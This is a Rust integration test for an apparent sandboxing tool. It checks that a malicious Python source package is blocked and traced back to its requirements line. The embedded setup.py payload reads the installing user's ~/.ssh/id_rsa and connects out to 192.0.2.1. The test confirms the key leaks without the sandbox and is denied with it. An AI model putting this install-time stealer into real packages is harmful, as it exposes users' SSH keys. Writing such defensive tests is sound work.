//! A Python source distribution whose `setup.py` steals: the classic PyPI
//! attack (typosquats since 2017). pip runs `setup.py` to build the sdist,
//! as the user installing it, before anything is imported.

use crate::util::{SSH_CANARY, Tier, World};
use crate::{at_every_tier, require};

const SETUP_PY: &str = r#"import os, socket
from setuptools import setup
try:
    print("EVIL-READ", open(os.path.expanduser("~/.ssh/id_rsa")).read())
except OSError as e:
    print("EVIL-READ-FAILED", e)
try:
    socket.create_connection(("192.0.2.1", 443), 3)
except OSError as e:
    print("EVIL-CONNECT-FAILED", e)
setup(name="evilpkg", version="6.6.6", py_modules=[])
"#;

/// Runs as an unprivileged user: `pip install` of a local sdist whose
/// `setup.py` reads the SSH key and connects out. Evidence: bare, the key
/// is printed; sandboxed, it is not, and the attempt is recorded with the
/// package that made it (`pypi:evilpkg@6.6.6`, from the sdist's
/// `PKG-INFO`), not just `python3` — the secret read at FULL (where the
/// mask sees reads), the connect out at FS-ONLY (where reads are unseen).
fn a_setup_py_that_steals_is_recorded_with_its_package(tier: Tier) {
    require!(tier.feature());
    let w = World::at(tier);
    let src = w.project.join("dist/evilpkg-6.6.6");
    w.write(&src.join("setup.py"), SETUP_PY);
    w.write(
        &src.join("PKG-INFO"),
        "Metadata-Version: 2.1\nName: evilpkg\nVersion: 6.6.6\n",
    );
    w.sh_bare("cd dist && tar czf evilpkg-6.6.6.tar.gz evilpkg-6.6.6 && rm -r evilpkg-6.6.6")
        .assert_success();
    w.write(
        &w.project.join("requirements.txt"),
        "requests>=2\nevilpkg==6.6.6\n",
    );
    // A project's requirements are committed: code scanning shows only
    // files git tracks.
    w.sh_bare("git add requirements.txt && git commit -q -m requirements")
        .assert_success();
    let install = "set -e; rm -rf .venv; /usr/bin/python3 -m venv --system-site-packages .venv; \
                   .venv/bin/pip install -v --no-index --no-build-isolation --no-cache-dir \
                   --disable-pip-version-check dist/evilpkg-6.6.6.tar.gz 2>&1; echo installed";
    w.sh_bare(install)
        .assert_stdout_contains(SSH_CANARY)
        .assert_stdout_contains("installed");

    let dir = w.root.join("reports");
    let project = w.project.to_str().unwrap_or_default();
    let mut args = vec!["ci", "--tier", w.tier.name(), "--project", project];
    args.extend_from_slice(w.tier.options());
    args.extend_from_slice(&[
        "--report-dir",
        dir.to_str().unwrap_or_default(),
        "--",
        "sh",
        "-c",
        install,
    ]);
    let out = w
        .vetto(&args)
        .timeout(std::time::Duration::from_secs(180))
        .run();
    out.assert_stdout_contains("EVIL-READ-FAILED")
        .assert_stdout_contains("installed")
        .assert_no_leak(SSH_CANARY);
    assert_eq!(out.code(), 3, "{}", out.dump());
    let log = std::fs::read_to_string(dir.join("session.jsonl")).unwrap_or_default();
    let rule = match tier {
        Tier::Full => "secret-read-denied",
        _ => "net-egress-blocked",
    };
    let by_package: Vec<&str> = log
        .lines()
        .filter(|l| l.contains("\"type\":\"violation\"") && l.contains(rule))
        .filter(|l| l.contains("\"name\":\"evilpkg\"") && l.contains("\"version\":\"6.6.6\""))
        .collect();
    assert!(
        !by_package.is_empty(),
        "no {rule} attributed to evilpkg@6.6.6\n{log}\n{}",
        out.dump()
    );
    assert!(
        out.stderr().contains("pypi:evilpkg@6.6.6"),
        "the terminal does not name the package\n{}",
        out.dump()
    );
    // Code scanning shows the alert at the line that brings the package
    // in, a file of the repository — not at the package's own files
    // (.venv, gitignored) — and says where the code that did it lives.
    let sarif: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(dir.join("vetto.sarif")).unwrap_or_default())
            .unwrap_or_default();
    let results = sarif["runs"][0]["results"]
        .as_array()
        .cloned()
        .unwrap_or_default();
    let ours = results
        .iter()
        .find(|r| r["ruleId"] == rule && r["message"]["text"].to_string().contains("evilpkg"));
    let Some(ours) = ours else {
        panic!("no {rule} result for evilpkg in the SARIF: {sarif}");
    };
    let at = &ours["locations"][0]["physicalLocation"];
    assert_eq!(at["artifactLocation"]["uri"], "requirements.txt", "{ours}");
    assert_eq!(at["region"]["startLine"], 2, "{ours}");
    assert!(
        ours["message"]["text"]
            .to_string()
            .contains("The code that did it:"),
        "{ours}"
    );
}
at_every_tier!(a_setup_py_that_steals_is_recorded_with_its_package);
